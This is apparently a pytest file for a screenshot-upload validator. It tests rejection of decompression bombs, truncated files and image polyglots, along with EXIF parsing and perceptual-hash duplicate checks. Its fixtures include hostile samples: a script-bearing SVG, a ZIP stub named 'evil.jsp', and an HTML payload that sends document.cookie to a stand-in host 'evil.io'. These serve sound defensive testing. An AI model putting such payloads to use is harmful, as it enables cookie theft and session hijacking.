"""Screenshot check: hostile uploads refused, facts and perceptual hashes for good ones."""

from __future__ import annotations

import io
import random
import struct
import warnings
import zlib
from datetime import UTC, datetime

import imagehash
import pytest
from PIL import Image, ImageDraw, ImageFile

from marketplace.proofs.checks import FAIL, PASS
from marketplace.proofs.checks import screenshot as shot
from marketplace.proofs.checks.screenshot import (
    ImageFacts,
    ImageRejected,
    chunk_neighbours,
    duplicate_check,
    hamming,
    inspect_image,
    parse_exif_datetime,
    phash_chunks,
    rejected_check,
    screenshot_check,
    to_signed64,
    to_unsigned64,
)

# --- fixtures: images drawn here, never downloaded ------------------------------------------


def picture(size: tuple[int, int] = (96, 64), seed: int = 1) -> Image.Image:
    """A deterministic picture with enough structure for a meaningful perceptual hash."""
    rng = random.Random(seed)
    img = Image.new("RGB", size, (240, 240, 240))
    draw = ImageDraw.Draw(img)
    for _ in range(12):
        x0, y0 = rng.randrange(size[0]), rng.randrange(size[1])
        x1, y1 = x0 + rng.randrange(5, 40), y0 + rng.randrange(5, 30)
        colour = (rng.randrange(256), rng.randrange(256), rng.randrange(256))
        draw.rectangle((x0, y0, x1, y1), fill=colour)
    return img


def encode(img: Image.Image, fmt: str, **params: object) -> bytes:
    out = io.BytesIO()
    img.save(out, fmt, **params)
    return out.getvalue()


def png_chunk(ctype: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + ctype + body + struct.pack(">I", zlib.crc32(ctype + body))


def raw_png(width: int, height: int, idat: bytes, colour: int = 0, depth: int = 8) -> bytes:
    """A hand-built PNG with valid chunk CRCs, for sizes Pillow would never write."""
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        shot._PNG_SIGNATURE
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def exif_jpeg(original: str | None = None, offset: str | None = None, plain: str | None = None):
    exif = Image.Exif()
    if plain is not None:
        exif[306] = plain
    sub = exif.get_ifd(0x8769)
    if original is not None:
        sub[36867] = original
    if offset is not None:
        sub[36881] = offset
    return encode(picture(), "JPEG", exif=exif.tobytes())


@pytest.fixture
def truncated_loading_on(monkeypatch: pytest.MonkeyPatch) -> None:
    """Somebody else in the process turned the dangerous global switch on."""
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)


def rejected(data: bytes, **limits: int) -> str:
    with pytest.raises(ImageRejected) as caught:
        inspect_image(data, **limits)
    return caught.value.detail


# --- accepted images -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "params"),
    [
        ("PNG", {}),
        ("PNG", {"interlace": 1}),
        ("JPEG", {"quality": 90}),
        ("JPEG", {"progressive": True}),
        ("GIF", {}),
        ("WEBP", {"quality": 90}),
        ("WEBP", {"lossless": True}),
    ],
)
def test_accepted_formats_give_facts_and_phash(fmt: str, params: dict) -> None:
    img = picture()
    data = encode(img, fmt, **params)

    facts = inspect_image(data)

    assert (facts.format, facts.width, facts.height) == (fmt, 96, 64)
    assert facts.content_type == f"image/{fmt.lower()}"
    assert len(facts.phash_hex) == 16 and int(facts.phash_hex, 16) == facts.phash
    assert 0 <= facts.phash < 2**64
    # Same bit order as ImageHash's own hex rendering.
    assert facts.phash_hex == str(imagehash.phash(Image.open(io.BytesIO(data))))
    assert facts.exif_datetime is None


def test_accepts_bytearray_and_memoryview() -> None:
    data = encode(picture(), "PNG")
    assert inspect_image(bytearray(data)).phash == inspect_image(memoryview(data)).phash


def test_reencoded_copy_is_a_near_duplicate_and_other_picture_is_not() -> None:
    original = inspect_image(encode(picture(seed=1), "PNG"))
    recompressed = inspect_image(encode(picture(seed=1).resize((80, 53)), "JPEG", quality=70))
    other = inspect_image(encode(picture(seed=2), "PNG"))

    assert hamming(original.phash, recompressed.phash) <= 6
    assert hamming(original.phash, other.phash) > 6


def test_jpeg_padding_after_eoi_is_tolerated() -> None:
    data = encode(picture(), "JPEG")
    assert inspect_image(data + b"\x00\x00").format == "JPEG"
    assert inspect_image(data + b"\xff\xd9").format == "JPEG"


# --- sniffing and size limits ------------------------------------------------------------------


def test_empty_file_rejected() -> None:
    assert "empty" in rejected(b"")


def test_not_bytes_rejected() -> None:
    with pytest.raises(ImageRejected):
        inspect_image("not bytes")  # type: ignore[arg-type]


def test_too_many_bytes_rejected_before_decoding() -> None:
    data = encode(picture(), "PNG")
    assert "too large" in rejected(data, max_bytes=len(data) - 1)


@pytest.mark.parametrize(
    "data",
    [
        b"hello, this is a text file named proof.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b"%PDF-1.7\n...",
        b"PK\x03\x04" + b"\x00" * 40,
        encode(picture(), "BMP"),
        encode(picture(), "TIFF"),
    ],
    ids=["text", "svg", "pdf", "zip", "bmp", "tiff"],
)
def test_non_accepted_content_rejected_by_magic_bytes(data: bytes) -> None:
    assert "not a PNG, JPEG, WEBP or GIF" in rejected(data)


def test_declared_pixels_over_limit_rejected() -> None:
    data = encode(picture((100, 100)), "PNG")
    assert "too large (100x100 pixels" in rejected(data, max_pixels=9_999)


def test_huge_declared_png_rejected_without_decoding() -> None:
    # 7000 x 7000 = 49 M pixels: under Pillow's own limit, over ours; tiny on disk.
    data = raw_png(7000, 7000, zlib.compress(b"\x00" * 7001))
    assert "too large (7000x7000" in rejected(data)


@pytest.mark.parametrize("side", [20_000, 10_000], ids=["bomb-error", "bomb-warning"])
def test_decompression_bomb_rejected_and_globals_untouched(side: int) -> None:
    before_limit = Image.MAX_IMAGE_PIXELS
    before_filters = list(warnings.filters)
    data = raw_png(side, side, zlib.compress(b"\x00" * 64))

    detail = rejected(data, max_pixels=10**9)  # our limit out of the way: Pillow's bites

    assert "decompression bomb" in detail
    assert Image.MAX_IMAGE_PIXELS == before_limit
    assert list(warnings.filters) == before_filters


def test_zero_size_image_rejected() -> None:
    assert "zero width or height" in rejected(raw_png(0, 10, zlib.compress(b"")))
    assert "zero width or height" in rejected(raw_png(10, 0, zlib.compress(b"")))


def test_zlib_bomb_inside_declared_size_is_stopped() -> None:
    # Declares 10x10 grey but inflates to 10 MB.
    data = raw_png(10, 10, zlib.compress(b"\x00" * 10_000_000, 9))
    assert "larger than its declared size" in rejected(data)


# --- truncation ----------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "GIF", "WEBP"])
@pytest.mark.parametrize("keep", [0.5, 0.97])
def test_truncated_files_rejected_even_with_truncated_loading_on(
    fmt: str, keep: float, truncated_loading_on: None
) -> None:
    data = encode(picture(), fmt)
    rejected(data[: int(len(data) * keep)])


def test_png_missing_only_iend_is_truncated() -> None:
    data = encode(picture(), "PNG")
    assert "truncated" in rejected(data[:-12])


def test_png_with_cut_pixel_stream_but_valid_chunks_rejected(truncated_loading_on: None) -> None:
    # Re-wrapped with fresh CRCs, so only the zlib stream itself shows the cut.
    raw = b"".join(b"\x00" + bytes(range(30)) for _ in range(30))
    data = raw_png(30, 30, zlib.compress(raw)[:-40])
    assert "truncated" in rejected(data)


def test_jpeg_without_eoi_rejected(truncated_loading_on: None) -> None:
    data = encode(picture(), "JPEG")
    assert data.endswith(b"\xff\xd9")
    assert "truncated" in rejected(data[:-2])


# --- polyglots -------------------------------------------------------------------------------

ZIP_PAYLOAD = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"evil.jsp" + b"\x00" * 200
HTML_PAYLOAD = b"<html><script>fetch('//evil.io/'+document.cookie)</script></html>"


def test_png_signature_followed_by_garbage_rejected() -> None:
    rejected(shot._PNG_SIGNATURE + b"this is not a png at all" * 10)


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "GIF", "WEBP"])
@pytest.mark.parametrize("payload", [ZIP_PAYLOAD, HTML_PAYLOAD], ids=["zip", "html"])
def test_image_with_trailing_payload_rejected(fmt: str, payload: bytes) -> None:
    data = encode(picture(), fmt)
    assert "unexpected data after the end of the image" in rejected(data + payload)


def test_png_with_even_one_trailing_byte_rejected() -> None:
    rejected(encode(picture(), "PNG") + b"\x00")


def test_png_chunk_with_bad_crc_rejected() -> None:
    data = bytearray(encode(picture(), "PNG"))
    data[40] ^= 0xFF  # inside the first IDAT/after IHDR: some CRC no longer matches
    rejected(bytes(data))


def test_any_pillow_failure_becomes_a_rejection(monkeypatch: pytest.MonkeyPatch) -> None:
    def explode(*args: object, **kwargs: object) -> None:
        raise RuntimeError("decoder exploded")

    monkeypatch.setattr(shot.imagehash, "phash", explode)
    assert "could not be decoded (RuntimeError)" in rejected(encode(picture(), "PNG"))


# --- EXIF capture time -----------------------------------------------------------------------


def test_exif_original_time_with_offset_is_converted_to_utc() -> None:
    facts = inspect_image(exif_jpeg(original="2026:05:01 14:30:00", offset="+02:00"))
    assert facts.exif_datetime == datetime(2026, 5, 1, 12, 30, tzinfo=UTC)


def test_an_exif_time_without_a_zone_stays_a_wall_clock_time() -> None:
    """Phones write local time, often with no offset tag: it is not taken to be UTC."""
    facts = inspect_image(exif_jpeg(original="2026:05:01 14:30:00"))
    assert facts.exif_datetime == datetime(2026, 5, 1, 14, 30) and facts.exif_datetime.tzinfo is None


def test_exif_datetime_falls_back_to_plain_datetime() -> None:
    facts = inspect_image(exif_jpeg(plain="2026:04:30 08:00:05"))
    assert facts.exif_datetime == datetime(2026, 4, 30, 8, 0, 5)


def test_exif_on_png_is_read_too() -> None:
    exif = Image.Exif()
    exif.get_ifd(0x8769)[36867] = "2026:05:01 10:00:00"
    facts = inspect_image(encode(picture(), "PNG", exif=exif.tobytes()))
    assert facts.exif_datetime == datetime(2026, 5, 1, 10)


@pytest.mark.parametrize("value", ["0000:00:00 00:00:00", "yesterday", "2026:13:45 99:00:00", ""])
def test_malformed_exif_time_is_ignored(value: str) -> None:
    assert inspect_image(exif_jpeg(original=value)).exif_datetime is None


def test_parse_exif_datetime_edge_cases() -> None:
    assert parse_exif_datetime(b"2026:05:01 10:00:00\x00") == datetime(2026, 5, 1, 10)
    assert parse_exif_datetime("2026:05:01 10:00:00", "-05:30") == datetime(
        2026, 5, 1, 15, 30, tzinfo=UTC
    )
    assert parse_exif_datetime("2026:05:01 10:00:00", "+99:99") == datetime(2026, 5, 1, 10)  # no real zone
    assert parse_exif_datetime(12345) is None
    assert parse_exif_datetime(None) is None


# --- hash arithmetic -------------------------------------------------------------------------


def test_hamming() -> None:
    assert hamming(0, 0) == 0
    assert hamming(0, 2**64 - 1) == 64
    assert hamming(0b1011, 0b0001) == 2
    assert hamming(to_signed64(2**64 - 1), 0) == 64


def test_signed_round_trip_at_the_edges() -> None:
    for value in (0, 1, 2**63 - 1, 2**63, 2**64 - 1):
        signed = to_signed64(value)
        assert -(2**63) <= signed < 2**63
        assert to_unsigned64(signed) == value
    assert to_signed64(2**64 - 1) == -1
    with pytest.raises(ValueError):
        to_unsigned64(2**64)


def test_phash_chunks_most_significant_first() -> None:
    assert phash_chunks(0x1234_5678_9ABC_DEF0) == (0x1234, 0x5678, 0x9ABC, 0xDEF0)
    assert phash_chunks(to_signed64(0xFFFF_0000_0000_0001)) == (0xFFFF, 0, 0, 1)


def test_chunk_neighbours_are_the_chunk_and_its_one_bit_flips() -> None:
    neighbours = chunk_neighbours(0x00F0)
    assert neighbours[0] == 0x00F0
    assert len(neighbours) == len(set(neighbours)) == 17
    assert all(hamming(0x00F0, other) == 1 for other in neighbours[1:])


def test_multi_index_lookup_finds_everything_within_distance_six() -> None:
    rng = random.Random(7)
    for _ in range(2000):
        a = rng.getrandbits(64)
        b = a
        for bit in rng.sample(range(64), rng.randint(0, 7)):
            b ^= 1 << bit
        assert any(
            chunk_b in chunk_neighbours(chunk_a)
            for chunk_a, chunk_b in zip(phash_chunks(a), phash_chunks(b), strict=True)
        )


# --- verdicts ----------------------------------------------------------------------------------


def test_screenshot_check_passes_with_phash_in_data() -> None:
    facts = ImageFacts("PNG", 1080, 1920, 0xABC, "0000000000000abc", None)
    result = screenshot_check(facts)
    assert (result.name, result.outcome) == ("screenshot", PASS)
    assert result.data["phash"] == "0000000000000abc"
    assert result.to_dict()["data"]["width"] == 1080


def test_rejected_check_fails_with_the_detail() -> None:
    result = rejected_check(ImageRejected("the file is empty"))
    assert (result.outcome, result.detail) == (FAIL, "the file is empty")


def test_duplicate_check_names_the_closest_earlier_submission() -> None:
    result = duplicate_check([("sub_far", 5), ("sub_close", 3), ("sub_beyond", 9)], threshold=6)
    assert (result.name, result.outcome) == ("duplicate", FAIL)
    assert result.detail == "near-duplicate of sub_close (distance 3)"
    assert result.data["matched_submission_id"] == "sub_close"
    assert result.data["match_count"] == 2


def test_duplicate_check_ties_go_to_the_first_listed() -> None:
    result = duplicate_check([("sub_old", 2), ("sub_new", 2)], threshold=6)
    assert result.data["matched_submission_id"] == "sub_old"


def test_duplicate_check_passes_without_close_matches() -> None:
    assert duplicate_check([], threshold=6).outcome == PASS
    assert duplicate_check([("sub_x", 7)], threshold=6).outcome == PASS
